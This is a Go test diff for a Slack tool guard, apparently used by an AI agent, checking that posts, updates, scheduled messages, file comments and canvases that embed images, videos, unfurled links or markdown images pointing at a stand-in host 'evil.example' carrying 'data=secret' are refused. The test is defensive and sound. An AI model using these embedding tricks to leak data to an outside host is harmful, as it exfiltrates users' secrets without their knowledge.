@@ -328,3 +328,43 @@ func TestNoTextCallsMany(t *testing.T) {
 		}
 	}
 }
+
+// TestNothingIsFetchedWithoutAClick tries each way by which what is shown fetches an address.
+func TestNothingIsFetchedWithoutAClick(t *testing.T) {
+	t.Parallel()
+	const out = "https://evil.example/?data=secret"
+	r := newRig(t, func(o *rigOptions) { o.guard.NoRemote = true })
+	g := sandbox.General
+	var p posted
+	r.call("slack_post_message", a{"channel": g, "text": "see <" + out + "|this>", "dry_run": true}, &p)
+	if got := fmt.Sprint(p.Requests); !strings.Contains(got, "unfurl_links:false") || !strings.Contains(got, "unfurl_media:false") {
+		t.Errorf("a link is sent as %s", got)
+	}
+	r.call("slack_post_message", a{"channel": g, "text": "mine"}, &p)
+	for _, tc := range []struct {
+		tool string
+		args a
+	}{
+		{"slack_post_message", a{"channel": g, "text": "x " + out, "unfurl": true}},
+		{"slack_post_message", a{"channel": g, "blocks": `[{"type":"image","image_url":"` + out + `","alt_text":"x"}]`}},
+		{"slack_post_message", a{"channel": g, "blocks": []a{{"type": "section", "text": a{"type": "mrkdwn", "text": "x"}, "accessory": a{"type": "image", "image_url": out, "alt_text": "x"}}}}},
+		{"slack_post_message", a{"channel": g, "blocks": []a{{"type": "video", "video_url": out, "thumbnail_url": out, "alt_text": "x", "title": a{"type": "plain_text", "text": "x"}}}}},
+		{"slack_post_message", a{"channel": g, "blocks": []a{{"type": "markdown", "text": "![x](" + out + ")"}}}},
+		{"slack_post_message", a{"channel": g, "markdown": "![x](" + out + ")"}},
+		{"slack_post_ephemeral", a{"channel": g, "user": "@bob", "markdown": "![x](" + out + ")"}},
+		{"slack_schedule_message", a{"channel": g, "post_at": "2h", "blocks": `[{"type":"image","image_url":"` + out + `","alt_text":"x"}]`}},
+		{"slack_update_message", a{"channel": g, "timestamp": p.TS, "text": out}},
+		{"slack_update_message", a{"channel": g, "timestamp": p.TS, "markdown": "[x](" + out + ")"}},
+		{"slack_upload_file", a{"channel": g, "filename": "a.txt", "content": "x", "comment": out}},
+		{"slack_create_canvas", a{"title": "x", "markdown": "![x](" + out + ")"}},
+		{"slack_edit_canvas", a{"canvas_id": "F0123456789", "operation": "replace", "markdown": "![x](" + out + ")"}},
+	} {
+		r.refuses(tc.tool, tc.args, "remote_content_not_allowed: ")
+		tc.args["dry_run"] = true
+		r.refuses(tc.tool, tc.args, "remote_content_not_allowed: ")
+	}
+	r.call("slack_update_message", a{"channel": g, "timestamp": p.TS, "text": "no link"}, nil)
+	r.call("slack_post_message", a{"channel": g, "blocks": []a{{"type": "actions", "elements": []a{{"type": "button", "text": a{"type": "plain_text", "text": "go"}, "url": out}}}}}, nil)
+	free := newRig(t)
+	free.call("slack_post_message", a{"channel": g, "text": "x " + out, "unfurl": true}, nil)
+}
